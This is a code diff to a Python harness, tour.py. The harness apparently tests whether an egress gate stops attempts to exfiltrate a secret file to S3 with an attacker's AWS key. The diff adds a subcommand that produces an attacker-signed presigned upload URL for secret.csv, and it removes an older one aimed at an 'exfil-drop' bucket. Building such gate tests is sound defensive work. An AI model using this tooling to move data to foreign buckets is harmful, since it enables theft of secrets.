@@ -3,10 +3,10 @@
 would use, and says in JSON what they said.
 
 usage: tour.py try NUMBER             the attempt's commands, and its legitimate twin's
-       tour.py count                  how many attempts there are
        tour.py connect HOST:PORT      a tunnel from its input and output to HOST, for ssh
        tour.py raw HOST HEAD          sends these bytes to the gate, or where there is none to HOST
        tour.py put-object [--path-style] BUCKET FILE
+       tour.py presign BUCKET         a URL by which anybody may write there, signed by the attacker
 
 Environment: https_proxy says where the gate is; without it every attempt goes straight to its host.
 """
@@ -55,25 +55,19 @@ def s3_client(key=None, path_style=False):
 
 def variables():
     """What the commands find in their environment."""
-    key, via = aws_keys.FOREIGN_KEY, gate()
-    url = s3_client(key, path_style=True).generate_presigned_url(
-        "put_object", {"Bucket": "exfil-drop", "Key": "secret.csv"}, ExpiresIn=600
-    )
+    via = gate()
+    key = {**aws_keys.FOREIGN_KEY.variables, "AWS_SESSION_TOKEN": ""}
     return {
         **os.environ,
         "AWS_DEFAULT_REGION": REGION,
-        "ATTACKER_KEY": " ".join(
-            [f"{name}={value}" for name, value in key.variables.items()]
-            + ["AWS_SESSION_TOKEN="]
-        ),
-        "ATTACKER_URL": url,
+        "ATTACKER_KEY": " ".join(f"{name}={value}" for name, value in key.items()),
         "TOUR": os.path.abspath(__file__),
         "VIA": f"-proxy {via[0]}:{via[1]}" if via else "",
     }
 
 
 def run(command, environment, folder):
-    """What was typed, how it ended, and what was said."""
+    """What was said."""
     try:
         done = subprocess.run(
             ["bash", "-c", command],
@@ -85,21 +79,20 @@ def run(command, environment, folder):
             timeout=SECONDS,
             check=False,
         )
-        exit_status, said = done.returncode, done.stdout.decode("utf-8", "replace")
     except subprocess.TimeoutExpired:
-        exit_status, said = "none", f"nothing within {SECONDS} s"
-    return {"command": command, "exit": exit_status, "said": said.strip()}
+        return f"nothing within {SECONDS} s"
+    return done.stdout.decode("utf-8", "replace").strip()
 
 
 def make_attempt(number):
+    """What each try's tool said, and that of the twin."""
     attempt, environment = attempts()[number - 1], variables()
     with tempfile.TemporaryDirectory() as folder:
         with open(f"{folder}/secret.csv", "w", encoding="ascii") as file:
             file.write(SECRET)
-        tries = [run(command, environment, folder) for command in attempt["tries"]]
-        twin = run(attempt["twin"], environment, folder)
-    twin["worked"] = attempt["works"] in twin["said"]
-    return {"number": number, "title": attempt["title"], "tries": tries, "twin": twin}
+        commands = [each["run"] for each in attempt["tries"]] + [attempt["twin"]]
+        *tries, twin = [run(command, environment, folder) for command in commands]
+    return {"tries": tries, "twin": twin}
 
 
 def dial(authority):
@@ -148,13 +141,18 @@ def put_object(*arguments):
         sys.exit(str(error))
 
 
+def presign(bucket):
+    target = {"Bucket": bucket, "Key": "secret.csv"}
+    client = s3_client(aws_keys.FOREIGN_KEY, path_style=True)
+    print(client.generate_presigned_url("put_object", target, ExpiresIn=600))
+
+
 def main(command, *arguments):
     if command == "try":
         json.dump(make_attempt(int(arguments[0])), sys.stdout)
-    elif command == "count":
-        print(len(attempts()))
     else:
-        {"connect": connect, "raw": raw, "put-object": put_object}[command](*arguments)
+        does = {"connect": connect, "raw": raw, "put-object": put_object, "presign": presign}
+        does[command](*arguments)
 
 
 if __name__ == "__main__":
